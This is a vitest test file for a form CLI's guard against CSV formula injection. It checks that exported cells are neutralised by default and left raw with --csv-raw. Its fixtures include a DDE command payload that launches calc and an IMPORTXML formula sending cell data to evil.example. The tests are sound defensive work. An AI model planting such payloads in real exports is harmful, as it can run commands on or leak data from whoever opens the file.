import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { runInProcess } from '../helpers/inProcessCli.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../src/domain/csvFormula.js';
import { tempDir } from '../helpers/cli.js';
import { startSandbox } from '../helpers/commandSandbox.js';

// CSV formula injection (OWASP): what strangers typed must not run when an admin opens a CSV.
let sb: Awaited<ReturnType<typeof startSandbox>>;
const tmp = tempDir();
let qrId: string;
beforeAll(async () => {
  sb = await startSandbox();
  const form = (await sb.api('POST', '/forms', { body: { title: '=HYPERLINK("http://evil.example","click")', shortText: 'x', fields: [{ type: 'shortText', option: { label: 'Note' } }, { type: 'number', option: { label: 'N' } }] } })).body.data;
  qrId = form.qrId;
  const [note, n] = form.fields.map((f: { key: string }) => f.key);
  await sb.api('POST', `/forms/${qrId}/submissions`, { body: { answers: { [note]: '@SUM(1+1)*cmd|" /C calc"!A0', [n]: '-3' } } });
});
afterAll(async () => {
  await sb.stop();
  tmp.remove();
});

describe('the formula guard', () => {
  it.each([
    ['=1+1', "'=1+1"], ['+cmd', "'+cmd"], ['-2+3', "'-2+3"], ['@SUM(A1)', "'@SUM(A1)"], ['\tx', "'\tx"], ['\rx', "'\rx"],
    ['-3', '-3'], ['+1.5e3', '+1.5e3'], ['plain', 'plain'], ['', ''], ['a=b', 'a=b'],
  ])('%j is written as %j', (cell, written) => expect(neutraliseFormula(cell)).toBe(written));

  it('submissions export -o csv and list -o csv guard cells; plain numbers stay numbers; --csv-raw writes them as they are', async () => {
    const out = `${tmp.path}/s.csv`;
    expect((await sb.cli(['submissions', 'export', qrId, '--out', out])).exitCode).toBe(0);
    const csv = readFileSync(out, 'utf8');
    expect(csv).toContain(`'@SUM(1+1)`);
    expect(csv).toMatch(/,-3(,|\n|$)/m);
    const list = (await sb.cli(['submissions', 'list', qrId, '-o', 'csv'])).stdout;
    expect(list).toContain(`'@SUM(1+1)`);
    const raw = `${tmp.path}/raw.csv`;
    await sb.cli(['submissions', 'export', qrId, '--out', raw, '--csv-raw']);
    expect(readFileSync(raw, 'utf8')).toMatch(/(^|,)"?@SUM\(1\+1\)/m);
  });

  it('forms list -o csv guards a title; --csv-raw does not', async () => {
    expect((await sb.cli(['forms', 'list', '-o', 'csv'])).stdout).toContain(`"'=HYPERLINK(`);
    expect((await sb.cli(['forms', 'list', '-o', 'csv', '--csv-raw'])).stdout).toContain(`"=HYPERLINK(`);
  });

  // the guard itself over a service CSV with live formulas: test/unit/commands/analyticsGuard.test.ts
  it('analytics export of a service whose CSV holds live formulas: guarded by default, as sent with --csv-raw', async () => {
    // a stand-in for a service that does not guard its cells (the sandbox does): the link, then the CSV
    const served = 'scannedAt,city\r\n2026-01-01T00:00:00Z,=1+1\r\n';
    const service = createServer((req, res) => {
      const { port } = service.address() as AddressInfo;
      if (req.url!.startsWith('/v1/forms/ABCDEFGH/analytics?') && req.url!.includes('export=1')) {
        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ status: 'success', data: { csvUrl: `http://127.0.0.1:${port}/scans.csv` } }));
      } else if (req.url === '/scans.csv') res.writeHead(200, { 'content-type': 'text/csv' }).end(served);
      else res.writeHead(404).end();
    });
    await new Promise<void>((r) => service.listen(0, '127.0.0.1', r));
    try {
      const env = { FORMCTL_BASE_URL: `http://127.0.0.1:${(service.address() as AddressInfo).port}/v1`, FORMCTL_API_KEY: sb.keys.owner, FORMCTL_CONFIG_DIR: `${tmp.path}/stub-config` };
      const guarded = await runInProcess(['analytics', 'export', 'ABCDEFGH'], { env });
      expect([guarded.exitCode, guarded.stdout.split('\r\n')[1]]).toEqual([0, "2026-01-01T00:00:00Z,'=1+1"]);
      const raw = await runInProcess(['analytics', 'export', 'ABCDEFGH', '--csv-raw'], { env });
      expect([raw.exitCode, raw.stdout]).toEqual([0, served]);
    } finally {
      service.close();
    }
  });

  it('analytics export of a sandbox CSV: cells arrive guarded, no second mark, --csv-raw as sent', async () => {
    await fetch(`${sb.origin}/s/${qrId}`, { headers: { 'x-sandbox-city': '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")' } });
    const out = `${tmp.path}/scans.csv`;
    expect((await sb.cli(['analytics', 'export', qrId, '--out', out])).exitCode).toBe(0);
    expect(readFileSync(out, 'utf8')).toContain(`"'=IMPORTXML(`);
    // the sandbox's CSV guards its cells too (a visitor chose this one): the CLI's guard adds no second
    // mark, and --csv-raw writes the cells as the service sent them
    expect(readFileSync(out, 'utf8')).not.toContain(`''=IMPORTXML(`);
    const raw = `${tmp.path}/scans-raw.csv`;
    await sb.cli(['analytics', 'export', qrId, '--out', raw, '--csv-raw']);
    expect(readFileSync(raw, 'utf8')).toBe(readFileSync(out, 'utf8'));
  });
});
